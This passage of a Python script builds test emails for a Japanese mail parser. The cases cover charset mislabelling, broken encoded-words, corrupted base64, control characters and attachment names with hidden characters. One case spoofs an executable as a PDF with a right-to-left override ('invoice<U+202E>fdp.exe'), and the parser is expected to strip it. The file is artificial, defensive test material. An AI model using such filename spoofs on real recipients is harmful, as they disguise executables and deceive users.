                                                       ['Content-Type: multipart/mixed; boundary="=_never_seen_0001"']), T077.encode())),
    E("case", "境界が現れないマルチパート", "", "test-sender@hostile.example.jp",
      body=["不正送金の被害にあいました。", "この行も本文です。"]),
    """multipart whose boundary never occurs in the body: read as text/plain like a
multipart without boundary.""", T077)

S078 = "問い合わせフォームが悪用され迷惑メールの送信元として表示されています"
N078 = "岡田 恵子"
assert not valid_utf8(sjis(S078)) and b"\x5c" in sjis(S078) and b"\x5c" not in sjis(N078) and b'"' not in sjis(N078)
T078 = "岡田商店の岡田です。\nホームページの問い合わせフォームから大量の迷惑メールが送られているようです。\n"
add("078-raw-sjis-headers", crlf(message(headers(
    sjis("From: " + N078 + " <okada@okada-shoten.example.jp>"), sjis("Subject: " + S078),
    "Sun, 29 Nov 2026 10:00:00 +0900", "rawsjis.078@okada-shoten.example.jp",
    ["Content-Type: text/plain; charset=Shift_JIS", "Content-Transfer-Encoding: 8bit"]), sjis(T078))),
    E("case", S078, N078, "okada@okada-shoten.example.jp",
      body=["ホームページの問い合わせフォームから大量の迷惑メールが送られているようです。"]),
    """raw 8-bit Shift_JIS in Subject and From (no encoded-words); 表 = 0x95 0x5C must not
be taken for a backslash escape.""", T078)

S079 = "経理担当のメールアカウントが乗っ取られた可能性"
T079 = "野村会計の野村です。\n経理担当のアカウントから取引先に不審なメールが送られていました。\n"
add("079-raw-utf8-headers", crlf(message(headers(
    "From: 野村 智子 <tomoko@nomura-kaikei.example.jp>".encode(), ("Subject: " + S079).encode(),
    "Sun, 29 Nov 2026 10:30:00 +0900", "rawutf8.079@nomura-kaikei.example.jp", TEXT_UTF8_8), T079.encode())),
    E("case", S079, "野村 智子", "tomoko@nomura-kaikei.example.jp",
      body=["経理担当のアカウントから取引先に不審なメールが送られていました。"]),
    """raw UTF-8 in Subject and From (RFC 6532 style, no encoded-words).""", T079)

T080 = "菊地です。\nパソコンの動作が急に遅くなり、知らないソフトが勝手に起動します。\n"
b080 = sjis(T080)
assert strict_cp932_valid(b080) and not valid_utf8(b080)
add("080-sjis-labelled-latin1", crlf(message(H_BASIC(ew_text("動作が遅くなりました"), "mislabel.080@hostile.example.jp",
                                                     ["Content-Type: text/plain; charset=ISO-8859-1", "Content-Transfer-Encoding: 8bit"]), b080)),
    E("case", "動作が遅くなりました", "", "test-sender@hostile.example.jp",
      body=["パソコンの動作が急に遅くなり、知らないソフトが勝手に起動します。"], notes="charset"),
    """Shift_JIS bytes labelled ISO-8859-1: detected (valid CP932, not UTF-8) and read
as CP932, with a note about the charset.""", T080)

T081 = "石田です。\n取引先から届いたファイルを開いたら、画面が真っ暗になりました。\n"
b081 = T081.encode()
add("081-utf8-labelled-sjis", crlf(message(H_BASIC(ew_text("画面が真っ暗になりました"), "mislabel.081@hostile.example.jp",
                                                   ["Content-Type: text/plain; charset=Shift_JIS", "Content-Transfer-Encoding: 8bit"]), b081)),
    E("case", "画面が真っ暗になりました", "", "test-sender@hostile.example.jp",
      body=["取引先から届いたファイルを開いたら、画面が真っ暗になりました。"], notes="charset"),
    """UTF-8 bytes labelled Shift_JIS: valid UTF-8 wins (they are %s CP932), with a
note about the charset.""" % ("also valid" if strict_cp932_valid(b081) else "not valid"), T081)

b082 = "請求書の金額欄が".encode() + b"\x81" + " と表示されていました。\n".encode()
assert not valid_utf8(b082) and not strict_cp932_valid(b082)
try:
    b082.decode("euc_jp")
    raise AssertionError("082 decodes as EUC-JP")
except UnicodeDecodeError:
    pass
add("082-undecodable-bytes", crlf(message(H_BASIC(ew_text("文字化けした請求書"), "fffd.082@hostile.example.jp", TEXT_UTF8_8), b082)),
    E("case", "文字化けした請求書", "", "test-sender@hostile.example.jp",
      body=["請求書の金額欄が\ufffd と表示されていました。"], notes="U+FFFD"),
    """UTF-8 with a stray 0x81 byte (invalid as UTF-8, CP932 and EUC-JP): one U+FFFD and a
note.""", "請求書の金額欄が\ufffd と表示されていました。")

add("083-broken-encoded-words", crlf(message(H_BASIC(ew("UTF-8", "不正".encode()) + " =?UTF-8?X?abc?= =?UTF-8?B?44Ki44Kv",
                                                     "badew.083@hostile.example.jp", TEXT_UTF8_8), "件名の符号化が壊れています。\n".encode())),
    E("case", "不正 =?UTF-8?X?abc?= =?UTF-8?B?44Ki44Kv", "", "test-sender@hostile.example.jp", body=["件名の符号化が壊れています。"]),
    """a good encoded-word, one with an unknown encoding letter, one unterminated: the
broken ones stay literal, with the spaces before them.""", "件名の符号化が壊れています。")

S084 = "【ご相談】" + "取引先を装ったメールで請求書の振込先が変更され、" * 8 + "被害額が大きくなっています"
add("084-very-long-subject", crlf(message(H_BASIC(ew_text(S084) + " (2026-11-29)", "longsubj.084@hostile.example.jp", TEXT_UTF8_8),
                                          "件名がとても長いメールです。\n".encode())),
    E("case", S084 + " (2026-11-29)", "", "test-sender@hostile.example.jp", body=["件名がとても長いメールです。"]),
    """a %d-character subject in %d folded encoded-words followed by a plain word.""" % (
        len(S084) + 13, ew_text(S084).count("=?UTF-8")), "件名がとても長いメールです。")

T085 = "Base64の途中に空白や記号が混ざっています。\n内容はきちんと読めるはずです。\n"
lines085 = b64(T085.encode()).decode().split("\n")
g = []
for n, l in enumerate(lines085):
    if l:
        g.append(l[:10] + " \t" + l[10:20] + "!" + l[20:40] + "*" + l[40:] + "  ")
add("085-base64-garbage", crlf(message(H_BASIC(ew_text("Base64に余計な文字"), "b64junk.085@hostile.example.jp",
                                               ["Content-Type: text/plain; charset=UTF-8", "Content-Transfer-Encoding: base64"]),
                                       ("\n".join(g) + "\n").encode())),
    E("case", "Base64に余計な文字", "", "test-sender@hostile.example.jp",
      body=["Base64の途中に空白や記号が混ざっています。", "内容はきちんと読めるはずです。"]),
    """base64 body with spaces, tabs, "!" and "*" inside the lines and trailing blanks:
characters outside the alphabet are ignored (RFC 2045).""", T085)

T086 = "小文字の16進数で書かれたQuoted-Printableです。長い行はソフト改行で折り返されています。\n"
add("086-qp-lowercase-hex", crlf(message(H_BASIC(ew_text("QPの小文字"), "qplow.086@hostile.example.jp",
                                                 ["Content-Type: text/plain; charset=UTF-8", "Content-Transfer-Encoding: quoted-printable"]),
                                         qp(T086.encode(), lower=True))),
    E("case", "QPの小文字", "", "test-sender@hostile.example.jp",
      body=["小文字の16進数で書かれたQuoted-Printableです。長い行はソフト改行で折り返されています。"]),
    """quoted-printable with lower-case hex digits (=e3=81=82) and soft breaks.""", T086)

T087 = "桜井です。\n会社のホームページに知らないページが追加されていました。\n"
b087 = sjis(T087)
assert not valid_utf8(b087)
add("087-unknown-8bit", crlf(message(H_BASIC(ew_text("知らないページ"), "unk.087@hostile.example.jp",
                                             ["Content-Type: text/plain; charset=unknown-8bit", "Content-Transfer-Encoding: 8bit"]), b087)),
    E("case", "知らないページ", "", "test-sender@hostile.example.jp",
      body=["会社のホームページに知らないページが追加されていました。"]),
    """charset=unknown-8bit (as MTAs label unlabelled 8-bit text) over Shift_JIS bytes:
detected as CP932.""", T087)

PNG088 = png_bytes(5, 5, 88)
add("088-inline-image-no-name", crlf(message(H_BASIC(ew_text("名前のない画像"), "noname.088@hostile.example.jp",
                                                     ['Content-Type: multipart/mixed; boundary="nn-088"']),
                                             multipart("nn-088", [text_part("画像に名前がありません。\n"),
                                                                  part(["Content-Type: image/png", "Content-Disposition: inline",
                                                                        "Content-Transfer-Encoding: base64"], b64(PNG088))]))),
    E("case", "名前のない画像", "", "test-sender@hostile.example.jp", body=["画像に名前がありません。"],
      atts=[att("", PNG088, "attachment")]),
    """an inline image/png with no file name at all: still an attachment, named
"attachment".""", "画像に名前がありません。")

T089 = "大文字のヘッダーと空白の多い引数です。\n"
b089 = eucjp(T089)
assert strict_cp932_valid(b089) and b089.decode("cp932") != T089  # ignoring the label would give mojibake
add("089-param-whitespace", crlf(message(H_BASIC(ew_text("引数の書式"), "param.089@hostile.example.jp",
                                                 ['Content-Type: TEXT/PLAIN ; CHARSET = "EUC-JP" ;\n\tFORMAT = fixed',
                                                  "Content-Transfer-Encoding: 8BIT"]), b089)),
    E("case", "引数の書式", "", "test-sender@hostile.example.jp", body=["大文字のヘッダーと空白の多い引数です。"]),
    """upper-case media type and parameter names, blanks around ";" and "=", a folded
parameter list and a quoted charset (EUC-JP, whose bytes are also valid CP932: a
decoder that loses the label reads mojibake).""", T089)

add("090-subject-control-chars", crlf(message(H_BASIC("=?UTF-8?Q?=E7=9B=B8=E8=AB=87=09=09=E5=86=85=E5=AE=B9=07=1B=7F=E3=81=A7=E3=81=99?=   (test)\n\t\tend",
                                                      "ctlsubj.090@hostile.example.jp", TEXT_UTF8_8), "件名に制御文字があります。\n".encode())),
    E("case", "相談 内容 です (test) end", "", "test-sender@hostile.example.jp", body=["件名に制御文字があります。"]),
    """TAB, BEL, ESC and DEL inside an encoded subject, blanks after it and a folded
continuation: control characters become spaces and blank runs collapse.""", "件名に制御文字があります。")

T091 = "こんにちは\nパソコンがウイルスにかかったかもしれません\nパソコンのがめんがまっくらになりました\n"
b091 = T091.encode()
assert strict_cp932_valid(crlf(b091))  # trusting the label would give 縺薙ｓ縺ｫ縺｡縺ｯ…
add("091-utf8-valid-as-cp932", crlf(message(H_BASIC(ew_text("パソコンがおかしいです"), "mislabel.091@hostile.example.jp",
                                                    ["Content-Type: text/plain; charset=shift_jis", "Content-Transfer-Encoding: 8bit"]), b091)),
    E("case", "パソコンがおかしいです", "", "test-sender@hostile.example.jp",
      body=["パソコンがウイルスにかかったかもしれません", "パソコンのがめんがまっくらになりました"], notes="charset"),
    """kana-only UTF-8 labelled shift_jis whose bytes happen to be valid CP932 too (read
under the label it is mojibake 縺薙ｓ縺ｫ縺｡縺ｯ): valid UTF-8 with multibyte sequences
wins over the label, with a note about the charset.""", T091)

A092 = [
    ("filename*=UTF-8''" + pct("invoice\u202efdp.exe".encode()), "invoice\u202efdp.exe", exe_bytes(), "invoicefdp.exe"),
    ('name="%s"' % ew("UTF-8", "見積\u009b書\u0085.pdf".encode()), "見積\u009b書\u0085.pdf", pdf_bytes("estimate 092"),
     "見積書.pdf"),
    ("filename*=UTF-8''" + pct("写真\u200d\u200b\u2060.jpg".encode()), "写真\u200d\u200b\u2060.jpg", jpeg_bytes(300),
     "写真.jpg"),
    ('filename="%s"' % ew("UTF-8", "\ufeff.\u2066secret\u2069\u200e\u061c.txt".encode(), "Q"),
     "\ufeff.\u2066secret\u2069\u200e\u061c.txt", b"secret\n", "secret.txt"),
]
p, a = att_parts(A092)
add("092-bidi-format-names", crlf(message(H_BASIC(ew_text("添付ファイル名に見えない文字"), "bidi.092@hostile.example.jp",
                                                  ['Content-Type: multipart/mixed; boundary="bidi-092"']),
                                          multipart("bidi-092", [text_part("見えない文字入りの名前です。\n")] + p))),
    E("case", "添付ファイル名に見えない文字", "", "test-sender@hostile.example.jp", body=["見えない文字入りの名前です。"],
      atts=a),
    """names that read as something else: invoice<U+202E>fdp.exe (RFC 2231) shows as
"invoiceexe.pdf"; C1 controls U+009B (CSI) and U+0085 in an RFC 2047 name; a
zero-width joiner, space and word joiner; a BOM, isolates, LRM and ALM hiding a
leading dot (stripped once they are gone). All of them are removed.""",
    "見えない文字入りの名前です。")

# ---------------------------------------------------------------- write

for old in os.listdir(OUT):
    if re.match(r"^\d{3}-.*\.(eml|expect)$", old):
        os.remove(os.path.join(OUT, old))
for name in sorted(corpus):
    eml, exp = corpus[name]
    with open(os.path.join(OUT, name + ".eml"), "wb") as f:
        f.write(eml)
    with open(os.path.join(OUT, name + ".expect"), "w", encoding="utf-8", newline="\n") as f:
        f.write(exp)
print("%d messages written to %s" % (len(corpus), OUT))
